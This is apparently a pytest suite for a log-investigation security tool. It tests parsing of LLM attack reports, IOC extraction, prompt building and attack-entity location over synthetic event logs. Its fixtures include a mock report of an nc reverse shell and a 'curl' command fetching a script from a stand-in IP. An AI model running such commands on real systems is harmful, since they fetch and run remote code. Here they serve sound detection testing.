import re

import numpy as np
import pytest

from conftest import make_event, make_log
from shield.dataset import (
    ATTACK_IP,
    DROPPER_COMMAND,
    IMPLANT_PATH,
    INVESTIGATION_RESPONSE,
    PERSISTENCE_PATH,
)
from shield.detect import WindowSelection
from shield.errors import BudgetUnsatisfiable, ParseError
from shield.events import entity_names
from shield.evidence import NO_INTERNET, AttackEvidence
from shield.investigate import (
    DetectionLabels,
    InvestigationReport,
    build_prompt,
    canonical_tactic,
    investigate_many,
    locate,
    no_attack_report,
    parse_ioc_values,
    parse_response,
    render_markdown,
)
from shield.llm import ScriptedMockProvider, count_tokens, prompt_digest

PLAIN_RESPONSE = """Think: the nc process looks odd.

Attack Narrative: The attacker opened a reverse shell with nc.
Key Steps:
- [Initial Access]: phishing mail opened
- Lateral Hopping: moved to the db host
- Execution - ran the payload
  from a temporary directory
IOCs:
IP Addresses: 10.0.0.9, 10.0.0.10
Processes: nc
File Names: none
"""


def _attack_log():
    return make_log(
        [
            make_event("sh", "implant-file", "EVENT_EXECUTE", 1, DROPPER_COMMAND, "/bin/sh",
                       file_path=IMPLANT_PATH),
            make_event("implant", "c2", "EVENT_CONNECT", 2, "./gtcache", IMPLANT_PATH,
                       ip_address=f"{ATTACK_IP}:443"),
            make_event("cron", "crontab", "EVENT_READ", 3, "/usr/sbin/cron -f",
                       "/usr/sbin/cron", file_path="/etc/crontab"),
            make_event("implant-2", "c2-b", "EVENT_CONNECT", 4, "", IMPLANT_PATH,
                       ip_address=f"{ATTACK_IP}:80"),
        ]
    )


# ======================================================
# Parser
# ======================================================
def test_parse_markdown_response():
    report = parse_response(INVESTIGATION_RESPONSE, {"kind": "scripted-mock"})
    assert report.narrative.startswith("The attack begins")
    assert "<think>" not in report.narrative
    assert [s.tactic for s in report.steps] == [
        "Execution",
        "Defense Evasion",
        "Command and Control",
        "Persistence",
    ]
    assert report.iocs["ips"] == (ATTACK_IP,)
    assert report.iocs["domains"] == ()
    assert report.iocs["processes"] == (DROPPER_COMMAND, "./gtcache")
    assert report.iocs["files"] == (IMPLANT_PATH, PERSISTENCE_PATH)
    assert report.raw_response == INVESTIGATION_RESPONSE
    assert InvestigationReport.from_dict(report.to_dict()) == report


def test_parse_plain_text_response():
    report = parse_response(PLAIN_RESPONSE)
    assert report.narrative == "The attacker opened a reverse shell with nc."
    assert [(s.tactic, s.description) for s in report.steps] == [
        ("Initial Access", "phishing mail opened"),
        ("Execution", "ran the payload from a temporary directory"),
    ]
    assert report.iocs["ips"] == ("10.0.0.9", "10.0.0.10")
    assert report.iocs["processes"] == ("nc",)
    assert report.iocs["files"] == ()


def test_parse_without_iocs_keeps_raw_response():
    with pytest.raises(ParseError) as info:
        parse_response("## Attack Narrative\nNothing to see.")
    assert info.value.raw_response.startswith("## Attack Narrative")


def test_ioc_values_and_tactic_names():
    assert parse_ioc_values('`146.153.68.151` (C2 server)') == ["146.153.68.151"]
    assert parse_ioc_values('"a, b", c.') == ["a, b", "c"]
    assert parse_ioc_values("N/A") == []
    assert canonical_tactic("command & control") == "Command and Control"
    assert canonical_tactic("Lateral Hopping") is None


# ======================================================
# Prompt
# ======================================================
def test_prompt_sections_are_ordered():
    log = _attack_log()
    prompt = build_prompt(log.events, '{"sh": {}}', AttackEvidence(("./gtcache",)), "a Linux host")
    headers = [
        "# Scope",
        "# Environment",
        "# Logs",
        "# Your available evidence",
        "# Benign Profile",
        "# Guidelines",
        "# Goals",
        "# Output Format",
        NO_INTERNET,
    ]
    positions = [prompt.index(h) for h in headers]
    assert positions == sorted(positions)
    assert "- ./gtcache" in prompt and "a Linux host" in prompt
    assert prompt == build_prompt(log.events, '{"sh": {}}', ["./gtcache"], "a Linux host")


def test_prompt_is_trimmed_to_budget():
    events = [
        make_event(f"p{i}", f"f{i}", ts=i, command_line=f"/usr/bin/tool{i:03d} --flag",
                   file_path=f"/var/tmp/out{i:03d}")
        for i in range(200)
    ]
    empty = build_prompt([], "{}", [], "host")
    budget = count_tokens(empty) + 200
    prompt = build_prompt(events, "{}", [], "host", token_budget=budget)
    assert count_tokens(prompt) <= budget
    assert "tool000" in prompt
    assert "tool199" not in prompt
    with pytest.raises(BudgetUnsatisfiable):
        build_prompt(events, "{}", [], "host", token_budget=10)


def test_investigate_many_preserves_order(mock_dir):
    directory = mock_dir([])
    prompts = [f"investigate host {i}" for i in range(4)]
    for i, prompt in enumerate(prompts):
        (directory / f"{prompt_digest(prompt)}.txt").write_text(
            f"## Attack Narrative\nstory {i}\n## IOCs\n- IPs: 10.0.0.{i}\n", encoding="utf-8"
        )
    reports = investigate_many(prompts, ScriptedMockProvider(directory), max_in_flight=3)
    assert [r.narrative for r in reports] == [f"story {i}" for i in range(4)]
    assert [r.iocs["ips"] for r in reports] == [(f"10.0.0.{i}",) for i in range(4)]
    with pytest.raises(ValueError):
        investigate_many(prompts, ScriptedMockProvider(directory), max_in_flight=0)


# ======================================================
# locate
# ======================================================
def test_locate_flags_every_entity_with_a_matching_name():
    labels = locate([IMPLANT_PATH], _attack_log())
    assert labels.attack_entities == ("implant", "implant-2", "implant-file")
    assert labels.attack_entity_names == {IMPLANT_PATH}
    assert labels.attack_event_indices == (0, 1, 3)


def test_locate_ignores_ports_and_case():
    labels = locate({"ips": [f"{ATTACK_IP}:8080"]}, _attack_log())
    assert labels.attack_entities == ("c2", "c2-b")
    assert labels.attack_event_indices == (1, 3)
    by_command = locate(["./GTCACHE"], _attack_log())
    assert by_command.attack_entities == ("implant", "implant-2", "implant-file", "sh")


def test_locate_restricts_events_to_the_selection():
    selection = WindowSelection(windows=(), selected=(), truncated_events=(0, 1), t_ano=0.0)
    labels = locate([ATTACK_IP], _attack_log(), selection)
    assert labels.attack_entities == ("c2", "c2-b")
    assert labels.attack_event_indices == (1,)


def test_locate_without_iocs_flags_nothing():
    labels = locate(no_attack_report(), _attack_log())
    assert labels == DetectionLabels((), {}, ())


def _oracle_locate(iocs, log, scope):
    """Recorrido lineal par a par (IoC, evento) con las reglas de coincidencia escritas aparte."""

    def without_port(value):
        match = re.fullmatch(r"([^:]*):(\d+)", value)
        return match.group(1) if match else value

    def forms(ioc):
        value = ioc.strip().lower()
        return {v for v in (value, value.removeprefix("./"), without_port(value)) if v}

    def pieces(value):
        value = value.lower()
        return {value, without_port(value), *(p for p in re.split(r"[\\/]", value) if p)}

    def identifies_subject(form, event):
        if event.process_path and form in pieces(event.process_path):
            return True
        command = event.command_line.strip().lower()
        if not command:
            return False
        return form == command or any(form in pieces(token) for token in command.split())

    def identifies_object(form, event):
        if event.file_path and form in pieces(event.file_path):
            return True
        ip = event.ip_address.lower()
        return bool(ip) and form in (ip, without_port(ip))

    names = entity_names(log.events)
    matched = set()
    for ioc in iocs:
        for form in forms(ioc):
            for i in scope:
                if identifies_subject(form, log[i]):
                    matched.add(log[i].subject_id)
                if identifies_object(form, log[i]):
                    matched.add(log[i].object_id)
    matched_names = {names[e] for e in matched}
    flagged = {e for e, name in names.items() if name in matched_names}
    events = {i for i in scope if log[i].subject_id in flagged or log[i].object_id in flagged}
    return flagged, events


@pytest.mark.parametrize("seed", range(50))
def test_locate_matches_linear_scan(seed):
    rng = np.random.default_rng(seed)
    procs = ["/bin/sh", "/usr/bin/python3", IMPLANT_PATH, "C:\\Tools\\Evil.EXE"]
    commands = ["", "./gtcache -d", "curl http://198.51.100.7/a.sh", "python3 /opt/job.py"]
    files = ["", "/etc/crontab", "/tmp/a.sh", PERSISTENCE_PATH, "/opt/job.py"]
    ips = ["", f"{ATTACK_IP}:443", "10.0.0.5:22", "198.51.100.7"]
    pool = [
        ATTACK_IP, f"{ATTACK_IP}:8080", "./gtcache", "GTCACHE", "a.sh", "/ETC/CRONTAB",
        "evil.exe", "python3", "10.0.0.5", "job.py", "nothing-here", "tools", "crontab",
    ]
    events = []
    for ts in range(40):
        events.append(
            make_event(
                f"p{rng.integers(6)}", f"o{rng.integers(6)}", "EVENT_READ", ts,
                commands[rng.integers(len(commands))], procs[rng.integers(len(procs))],
                ips[rng.integers(len(ips))], files[rng.integers(len(files))],
            )
        )
    log = make_log(events)
    iocs = [str(v) for v in rng.choice(pool, size=int(rng.integers(1, 5)), replace=False)]
    scope = tuple(sorted(int(i) for i in rng.choice(40, size=25, replace=False)))
    selection = WindowSelection(windows=(), selected=(), truncated_events=scope, t_ano=0.0)

    labels = locate(iocs, log, selection)
    flagged, attack_events = _oracle_locate(iocs, log, scope)
    assert set(labels.attack_entities) == flagged
    assert set(labels.attack_event_indices) == attack_events


def test_render_markdown_lists_iocs_and_entities():
    report = parse_response(INVESTIGATION_RESPONSE, {"kind": "scripted-mock"})
    text = render_markdown(report, locate(report, _attack_log()))
    assert "## IOCs" in text
    assert f"`{ATTACK_IP}`" in text
    assert "1. **Execution**:" in text
    assert f"- `{IMPLANT_PATH}`" in text
    assert "_Proveedor: kind=scripted-mock_" in text
